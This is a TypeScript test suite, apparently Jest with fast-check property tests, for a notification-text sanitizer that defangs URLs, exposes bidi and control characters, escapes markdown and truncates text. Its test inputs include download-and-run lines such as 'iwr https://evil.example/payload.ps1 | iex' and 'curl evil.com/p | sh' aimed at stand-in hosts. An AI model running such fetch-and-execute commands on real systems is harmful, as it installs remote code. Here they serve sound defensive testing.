import fc from 'fast-check';
import { defangUrls, escapeMarkdown, neutralizeText, safeText, truncateText } from '../../../shared/notify/escape';
import { HOSTILE } from '../../support/notifyFixtures';

describe('neutralizeText', () => {
  test('shows bidi overrides and zero-width characters as visible markers', () => {
    expect(neutralizeText(HOSTILE.rtl)).toBe('invoice[U+202E]exe.pdf');
    expect(neutralizeText(HOSTILE.zeroWidth)).toBe('mal[U+200B]ware[U+FEFF]');
    expect(neutralizeText(HOSTILE.tags)).toBe('hidden[U+E0041][U+E0042]text');
  });

  test('replaces control characters, keeps line breaks visible, repairs lone surrogates', () => {
    expect(neutralizeText(HOSTILE.controls)).toBe('a[U+0000]b[U+0007]c[U+001B]d[U+007F]e ↵ f');
    expect(neutralizeText('one\r\ntwo\n\nthree\u2028four')).toBe('one ↵ two ↵ three ↵ four');
    expect(neutralizeText(HOSTILE.surrogate)).toBe('lone \uFFFD surrogate');
  });

  test('defangs urls so clients cannot auto-link them', () => {
    expect(neutralizeText(HOSTILE.url)).toBe('powershell -c iwr https[:]//evil.example/payload.ps1 | iex; start www[.]evil.example');
    expect(neutralizeText('iwr https://cdn.evil.com/a.ps1')).toBe('iwr https[:]//cdn[.]evil[.]com/a.ps1');
    expect(defangUrls('HTTP://A ftp://b WWW.c.com')).toBe('HTTP[:]//A ftp[:]//b WWW[.]c[.]com');
  });

  test('output never contains a scheme separator, a bidi control or a C0 control', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const out = neutralizeText(s);
        expect(out).not.toContain('://');
        // eslint-disable-next-line no-control-regex -- looking for control characters is the point
        expect(out).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff]/);
        expect(out).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
      }),
    );
  });
});

describe('defangUrls: nothing a client could turn into a link', () => {
  test('backslash and single-slash scheme separators, which browsers read as //', () => {
    expect(defangUrls('iwr https:\\\\evil.example\\p.ps1')).toBe('iwr https[:]\\\\evil.example\\p.ps1');
    expect(defangUrls('HTTPS:/\\evil.example http:\\/x file:/etc')).toBe('HTTPS[:]/\\evil.example http[:]\\/x file[:]/etc');
    // A drive letter is not a scheme.
    expect(defangUrls('C:\\Users\\Public\\a.cer d:/temp')).toBe('C:\\Users\\Public\\a.cer d:/temp');
  });

  test('PowerShell drives (Cert:\\, HKLM:\\) read as written; a scheme after them is still broken', () => {
    expect(defangUrls('Get-ChildItem Cert:\\CurrentUser\\My -CodeSigningCert; cd HKLM:\\SOFTWARE; dir env:\\TEMP')).toBe(
      'Get-ChildItem Cert:\\CurrentUser\\My -CodeSigningCert; cd HKLM:\\SOFTWARE; dir env:\\TEMP',
    );
    // Two separators, a slash, or a longer word ending in a drive name: read as a scheme.
    expect(defangUrls('cert:\\\\evil cert:/x mycert:\\x xcert:\\y')).toBe('cert[:]\\\\evil cert[:]/x mycert[:]\\x xcert[:]\\y');
  });

  test('bare domains on a delegated top-level domain lose every dot', () => {
    expect(defangUrls('curl evil.com/p | sh')).toBe('curl evil[.]com/p | sh');
    expect(defangUrls('beacon to cdn.evil.co.uk:8443, mail admin@evil.io')).toBe('beacon to cdn[.]evil[.]co[.]uk:8443, mail admin@evil[.]io');
    expect(defangUrls('open invoice.pdf.zip')).toBe('open invoice[.]pdf[.]zip');
    expect(defangUrls('start www.evil.example')).toBe('start www[.]evil.example');
    expect(defangUrls('Evil.COM')).toBe('Evil[.]COM');
    expect(defangUrls('xn--80ak6aa92e.com')).toBe('xn--80ak6aa92e[.]com');
  });

  test('file names, PowerShell members and version numbers stay readable', () => {
    const kept = [
      'certutil.exe -addstore Root C:\\PKI\\ca.cer',
      'signtool.exe sign /f cert.pfx /p x payload.dll',
      'Set-AuthenticodeSignature -FilePath .\\run.ps1 -Certificate $cert',
      '[System.Security.Cryptography.X509Certificates.X509Certificate2]::new($path).Thumbprint',
      '$cert.NotAfter.AddYears(5) version 1.3.6.1.5.5.7.3.3',
      'build-agent-7.contoso.local',
    ];
    for (const text of kept) expect(defangUrls(text)).toBe(text);
  });

  test('full-width and ideographic full stops, which IDNA reads as dots, become visible markers', () => {
    expect(defangUrls('evil\uFF0Ecom')).toBe('evil[U+FF0E]com');
    expect(defangUrls('evil\u3002com evil\uFF61com')).toBe('evil[U+3002]com evil[U+FF61]com');
    expect(neutralizeText('https://evil\u3002com')).toBe('https[:]//evil[U+3002]com');
  });

  test('for any text: no scheme separator, no full-width dot, no bare domain on a common TLD', () => {
    const label = fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?$/);
    const tld = fc.constantFrom('com', 'net', 'org', 'io', 'ru', 'zip', 'app', 'top', 'xyz', 'uk', 'de', 'cn', 'info');
    const separator = fc.constantFrom('.', '\uFF0E', '\u3002', '\uFF61');
    const domain = fc.tuple(fc.array(label, { minLength: 1, maxLength: 3 }), separator, tld).map(([labels, sep, t]) => `${labels.join(sep)}${sep}${t}`);
    const scheme = fc.constantFrom('https', 'http', 'ftp', 'file', 'ms-settings', 'search-ms');
    const slashes = fc.constantFrom('//', '\\\\', '/\\', '\\/', '/', '\\');
    const noise = fc.string({ unit: 'binary', maxLength: 20 });
    fc.assert(
      fc.property(noise, scheme, slashes, domain, noise, (before, s, slash, d, after) => {
        const out = neutralizeText(`${before} ${s}:${slash}${d} ${after}`);
        expect(out).not.toMatch(/[a-z0-9+.-]{2}:[\\/]/i);
        expect(out).not.toMatch(/[\uFF0E\u3002\uFF61]/);
        expect(out).not.toMatch(/[a-z0-9-]\.(com|net|org|io|ru|zip|app|top|xyz|uk|de|cn|info)(?![a-z0-9])/i);
      }),
      { numRuns: 500 },
    );
  });
});

describe('escapeMarkdown', () => {
  test('escapes every markdown special and <', () => {
    expect(escapeMarkdown(HOSTILE.link)).toBe('\\[click\\]\\(https\\[:\\]//evil.example/phish\\)');
    expect(escapeMarkdown(HOSTILE.mention)).toBe('\\<at\\>Security Team\\</at\\>');
    expect(escapeMarkdown(HOSTILE.bold)).toBe('\\*\\*bold\\*\\* \\_\\_under\\_\\_ \\_it\\_ \\~\\~strike\\~\\~');
    expect(escapeMarkdown('a|b!c+d-e#f>g`h{i}j\\k')).toBe('a\\|b\\!c\\+d\\-e\\#f\\>g\\`h\\{i\\}j\\\\k');
  });

  test('a leading number cannot start an ordered list', () => {
    expect(escapeMarkdown('1. first')).toBe('1\\. first');
    expect(escapeMarkdown('version 1.2')).toBe('version 1.2');
  });

  test('no unescaped special survives, for any input', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const out = escapeMarkdown(s);
        // Remove escaped pairs; what is left must contain no special character.
        const rest = out.replace(/\\[\\*_[\]()#>\-+!~|`<{}.]/g, '');
        expect(rest).not.toMatch(/[\\*_[\]()#>\-+!~|`<{}]/);
      }),
    );
  });
});

describe('truncateText / safeText', () => {
  test('cuts by code point, never inside a surrogate pair, and says how much was cut', () => {
    expect(truncateText('😀😀😀😀', 2)).toBe('😀😀… (+2 chars)');
    expect(truncateText('short', 10)).toBe('short');
    expect(truncateText('anything', 0)).toBe('');
  });

  test('neutralizes before truncating (markers count towards the limit)', () => {
    expect(safeText('\u202E'.repeat(5), 8)).toBe('[U+202E]… (+32 chars)');
    expect(safeText(null, 10)).toBe('');
  });
});
